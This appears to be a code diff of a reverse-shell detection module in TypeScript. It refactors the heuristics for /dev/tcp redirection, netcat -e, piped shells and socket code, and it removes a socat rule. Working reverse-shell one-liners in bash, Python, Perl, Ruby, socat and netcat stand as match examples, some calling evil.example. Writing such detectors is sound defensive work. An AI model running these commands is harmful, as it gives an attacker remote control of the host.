@@ -1,10 +1,13 @@
 // Reverse shells: a shell whose input and output hang on a network connection.
-import { severity } from "../bands.ts";
-import { type Heuristic, firstOf, onAnyCommand, onCode, onCommand, when } from "../heuristic.ts";
-import { isShell } from "../programs.ts";
-import { given, joined } from "../read.ts";
+import { has, settingsOf } from "../../../normalise/programs/invocation.ts";
+import { severity } from "../../bands.ts";
+import { type Heuristic, firstOf, onAnyCommand, onCode, onCommand, when } from "../../heuristic.ts";
+import { isShell } from "../../programs.ts";
+import { onlyOptions } from "../../read.ts";
 
 const netcats = ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "busybox", "cryptcat", "pwncat", "sbd"];
+/** `-e`, `-c`, also among other letters where the program has no definition. */
+const runsProgram = /^-[a-z0-9]*[ec][a-z0-9]*$|^--(?:exec|lua-exec)$/u;
 const socketCall =
   /socket\.socket|socket\.create_connection|socket\s*\(\s*s\s*,|io::socket|tcpsocket|fsockopen|net\.(?:connect|socket|createconnection)|stream_socket_client|\/inet\/tcp|\/dev\/tcp|socket\.tcp|require\s*\(?\s*["']socket["']|java\.net\.socket|net\.sockets\.tcpclient|socat/iu;
 const shellCall =
@@ -35,14 +38,12 @@ export const reverseShell: readonly Heuristic[] = [
           : null;
       }),
     ),
-    examples: {
-      risky: [
-        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
-        "exec 5<>/dev/tcp/evil.example/80; sh <&5 >&5",
-        `bash -c 'sh -i >& /dev/udp/10.0.0.1/53 0>&1'`,
-      ],
-      honest: ["ls /dev", "cat /dev/null > out.txt"],
-    },
+    match: [
+      "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+      "exec 5<>/dev/tcp/evil.example/80; sh <&5 >&5",
+      `bash -c 'sh -i >& /dev/udp/10.0.0.1/53 0>&1'`,
+    ],
+    not_match: ["ls /dev", "cat /dev/null > out.txt"],
   },
   {
     id: "netcat-shell",
@@ -50,16 +51,15 @@ export const reverseShell: readonly Heuristic[] = [
     technique: "T1059",
     score: severity.critical,
     check: onCommand(netcats, (command) => {
-      const line = joined(command);
-      if (command.program === "busybox" && !/^nc\b/u.test(line)) return null;
+      if (command.program === "busybox" && command.operands[0] !== "nc") return null;
       const executes =
-        given(command, "ec", "exec", "sh-exec", "lua-exec") && /sh\b|cmd|python|perl|powershell|\/bin\//iu.test(line);
+        has(command, "--sh-exec") ||
+        (command.options.some(({ name }) => runsProgram.test(name)) &&
+          settingsOf(command).some((word) => /sh\b|cmd|python|perl|powershell|\/bin\//iu.test(word)));
       return executes ? "It hands a shell to whoever is at the other end of the connection" : null;
     }),
-    examples: {
-      risky: ["nc -e /bin/sh 10.0.0.1 4444", "ncat -lvp 4444 -e /bin/bash", "nc -c bash 10.0.0.1 4444"],
-      honest: ["nc -zv localhost 5432", "echo ruok | nc localhost 2181"],
-    },
+    match: ["nc -e /bin/sh 10.0.0.1 4444", "ncat -lvp 4444 -e /bin/bash", "nc -c bash 10.0.0.1 4444"],
+    not_match: ["nc -zv localhost 5432", "echo ruok | nc localhost 2181"],
   },
   {
     id: "piped-shell",
@@ -67,42 +67,22 @@ export const reverseShell: readonly Heuristic[] = [
     technique: "T1059.004",
     score: severity.critical,
     check: onCommand(isShell, (command, view) => {
-      if (!command.arguments.every((argument) => argument.startsWith("-"))) return null;
+      if (!onlyOptions(command)) return null;
       const peer = view.facts.commands.find(
         (other) =>
           other.pipeline === command.pipeline &&
           other !== command &&
           /^(?:nc|ncat|netcat|telnet|socat|openssl|sbd|cryptcat)$/u.test(other.program) &&
-          !(other.program === "openssl" && !other.arguments.includes("s_client")),
+          (other.program !== "openssl" || other.subcommand === "s_client"),
       );
       return peer === undefined ? null : `It connects ${command.program} to the network with ${peer.program}`;
     }),
-    examples: {
-      risky: [
-        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
-        "telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445",
-        "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/s",
-      ],
-      honest: ["cat a.sh | bash", "echo quit | openssl s_client -connect example.org:443"],
-    },
-  },
-  {
-    id: "socat-shell",
-    threat: "Reverse shell",
-    technique: "T1059",
-    score: severity.critical,
-    check: onCommand(["socat"], (command) =>
-      /\b(?:exec|system|shell):/iu.test(joined(command)) && /tcp|udp|openssl|sctp|vsock|socks/iu.test(joined(command))
-        ? "It connects a program's input and output to the network"
-        : null,
-    ),
-    examples: {
-      risky: [
-        "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane",
-        "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash",
-      ],
-      honest: ["socat - TCP4:example.org:80", "socat TCP-LISTEN:8080,fork TCP:localhost:80"],
-    },
+    match: [
+      "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
+      "telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445",
+      "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/s",
+    ],
+    not_match: ["cat a.sh | bash", "echo quit | openssl s_client -connect example.org:443"],
   },
   {
     id: "reverse-shell-code",
@@ -115,17 +95,15 @@ export const reverseShell: readonly Heuristic[] = [
         ? `Its ${code.language} code connects a socket to a shell`
         : null;
     }),
-    examples: {
-      risky: [
-        `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
-        `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");'`,
-        `groovy -e 'String c="sh";Process p=new ProcessBuilder(c).start();Socket s=new Socket("10.0.0.1",4444)'`,
-        `ruby -rsocket -e 'exit if fork;c=TCPSocket.new("10.0.0.1",4444);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end;exec "/bin/sh"'`,
-      ],
-      honest: [
-        `python3 -c 'import socket; print(socket.gethostname())'`,
-        `node -e 'require("net").connect(5432).on("connect",()=>console.log("up"))'`,
-      ],
-    },
+    match: [
+      `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
+      `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");'`,
+      `groovy -e 'String c="sh";Process p=new ProcessBuilder(c).start();Socket s=new Socket("10.0.0.1",4444)'`,
+      `ruby -rsocket -e 'exit if fork;c=TCPSocket.new("10.0.0.1",4444);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end;exec "/bin/sh"'`,
+    ],
+    not_match: [
+      `python3 -c 'import socket; print(socket.gethostname())'`,
+      `node -e 'require("net").connect(5432).on("connect",()=>console.log("up"))'`,
+    ],
   },
 ];
